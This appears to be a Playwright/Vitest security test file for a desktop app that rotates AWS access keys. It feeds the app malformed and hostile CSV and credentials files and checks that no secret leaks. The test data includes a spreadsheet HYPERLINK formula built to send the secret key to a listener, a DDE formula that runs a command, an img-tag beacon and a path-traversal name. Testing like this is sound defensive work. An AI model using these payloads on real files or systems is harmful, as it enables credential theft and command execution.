import { execFileSync } from 'node:child_process';
import { mkdir, rm, symlink, truncate, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import type { Page } from 'playwright';
import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest';
import { startListener, type Listener } from '../../support/attacks/listener.ts';
import { expectNoSecretOutside } from '../support/no-secret-outside.ts';
import { itemOf, openScene, type Scene } from '../support/scene.ts';

let scene: Scene;
let page: Page;
let thief: Listener;

beforeAll(async () => {
  scene = await openScene();
  thief = await startListener();
  const keyturn = await scene.start();
  page = await keyturn.page();
  page.setDefaultTimeout(10_000);
  await itemOf(page, 'default').getByText('93 days old, overdue').waitFor();
  await keyturn.app.evaluate(({ dialog }, path) => {
    dialog.showOpenDialog = () => Promise.resolve({ canceled: false, filePaths: [path] });
  }, csvPath());
});

afterAll(async () => {
  await thief?.close();
  await scene?.close();
});

function csvPath(): string {
  return join(scene.desktop.home, 'accessKeys.csv');
}

/** Every byte there is, a few thousand times. */
const binary = Buffer.from(Array.from({ length: 50_000 }, (_, at) => at % 256));
const tenMillion = 'x'.repeat(10_000_000);

type Hostile = {
  readonly name: string;
  /** Puts it at this place; with a pair in it where it can hold one. */
  readonly make: (path: string) => Promise<void>;
  /** What the window says. */
  readonly told: string;
};

async function save(path: string, content: string | Buffer): Promise<void> {
  await writeFile(path, content, { mode: 0o600 });
}

/** What no program should read to its end, in whatever place. */
const noFiles: readonly Hostile[] = [
  {
    name: 'a link to itself',
    make: (path) => symlink(path, path),
    told: 'is a link that leads back to itself',
  },
  {
    name: 'two links that lead to each other',
    make: async (path) => {
      await rm(`${path}.other`, { force: true });
      await symlink(`${path}.other`, path);
      await symlink(path, `${path}.other`);
    },
    told: 'is a link that leads back to itself',
  },
  {
    name: 'a device without an end',
    make: (path) => symlink('/dev/zero', path),
    told: 'there is a pipe, a device or a socket',
  },
  {
    name: 'a pipe that nobody writes to',
    make: async (path) => {
      execFileSync('mkfifo', [path]);
    },
    told: 'there is a pipe, a device or a socket',
  },
  {
    name: 'a folder',
    make: async (path) => {
      await mkdir(path);
    },
    told: 'This is a folder, not a file',
  },
];

/** The page holds no secret, and nobody was told one. */
async function expectUnharmed(): Promise<void> {
  const shown = await page.content();
  for (const secret of scene.aws.issuedSecrets()) expect(shown).not.toContain(secret);
  await thief.mark();
  expect(thief.seen()).toEqual([]);
}

describe('a CSV file that a person was sent', () => {
  const head = 'Access key ID,Secret access key';
  const row = (): string => `${scene.oldKey.id},${scene.oldKey.secret}`;
  const nothingThere = 'No access key was found there';

  const files: readonly Hostile[] = [
    {
      name: 'of ten gigabytes',
      make: async (path) => {
        await save(path, `${head}\n${row()}\n`);
        await truncate(path, 10 * 1024 ** 3);
      },
      told: 'is far too large for one.',
    },
    {
      name: 'with a line of ten million letters',
      make: (path) => save(path, `${head}\n${row()}${tenMillion}\n`),
      told: 'is far too large for one.',
    },
    {
      name: 'of bytes that are no text',
      make: (path) => save(path, binary),
      told: nothingThere,
    },
    {
      name: 'with the key between bytes that are no text',
      make: (path) => save(path, Buffer.from(row(), 'utf16le')),
      told: nothingThere,
    },
    {
      name: 'with a formula that would send the secret away',
      make: (path) =>
        save(
          path,
          `${head}\n"=HYPERLINK(""${thief.address}/?""&B2;""${scene.oldKey.id}"")",${scene.oldKey.secret}\n`,
        ),
      told: nothingThere,
    },
    {
      name: 'with a formula in place of the secret',
      make: (path) => save(path, `${head}\n${scene.oldKey.id},=cmd|'/c calc'!A0\n`),
      told: nothingThere,
    },
    ...noFiles,
  ];

  test.each(files)('$name: the window says so, and goes on', async ({ make, told }) => {
    await make(csvPath());
    await page.getByRole('button', { name: 'Add access key' }).click();
    const dialog = page.getByRole('dialog', { name: 'Add access key' });
    await dialog.getByRole('button', { name: 'Choose CSV file' }).click();
    await dialog.getByRole('alert').filter({ hasText: told }).waitFor();
    await expectUnharmed();
    await rm(csvPath(), { recursive: true });

    // The same dialog takes a right one.
    await save(csvPath(), `${head}\n${row()}\n`);
    await dialog.getByRole('button', { name: 'Choose CSV file' }).click();
    await dialog.getByText('AWS knows this key: user joebloggs').waitFor();
    await dialog.getByRole('button', { name: 'Cancel' }).click();
    await rm(csvPath());
  });
});

describe('a credentials file', () => {
  const marker = '[marker]\nregion = x\n';

  const files: readonly Hostile[] = [
    {
      name: 'of ten gigabytes',
      make: async (path) => {
        await save(path, scene.original);
        await truncate(path, 10 * 1024 ** 3);
      },
      told: 'is far larger than a file of AWS’s tools',
    },
    {
      name: 'of bytes that are no text',
      make: (path) => save(path, binary),
      told: 'AWS’s own tools refuse this file',
    },
    ...noFiles,
  ];

  test.each(files)('$name: the window says so, and goes on', async ({ make, told }) => {
    await rm(scene.file);
    await make(scene.file);
    await page.getByRole('button', { name: 'Check again' }).first().click();
    await page.getByText(told).waitFor();
    await expectUnharmed();
  });

  test.each([
    [
      'a line of three million letters',
      () => `${marker}${scene.original.toString()}\nnote = ${'x'.repeat(3_000_000)}\n`,
    ],
    [
      'names that are formulas, code and ways elsewhere',
      () =>
        `[=HYPERLINK("${thief.address}")]\nregion = x\n[<img src=${thief.address}/image>]\nregion = x\n[../../etc]\nregion = x\n${marker}${scene.original.toString()}`,
    ],
  ])('with %s is read, and its keys are those it had', async (_, text) => {
    await save(scene.file, text());
    await page.getByRole('button', { name: 'Check again' }).first().click();
    await page.getByRole('heading', { name: 'marker', exact: true }).waitFor();
    await itemOf(page, 'default').getByText('93 days old, overdue').waitFor();
    await itemOf(page, 'other').getByText('3 days old, fresh').waitFor();
    await expectUnharmed();
  });

  // Whatever stood there, what stands there now is read.
  afterEach(async () => {
    await rm(scene.file, { recursive: true });
    await save(scene.file, scene.original);
    await page.getByRole('button', { name: 'Check again' }).first().click();
    await itemOf(page, 'default').getByText('93 days old, overdue').waitFor();
    await itemOf(page, 'other').getByText('3 days old, fresh').waitFor();
  });
});

test('after all of it the key is rotated, and no secret is outside of the file', async () => {
  await page.getByRole('button', { name: 'Rotate default' }).click();
  await page.getByRole('status').filter({ hasText: 'Rotated default' }).waitFor();
  await expectNoSecretOutside(scene);
});
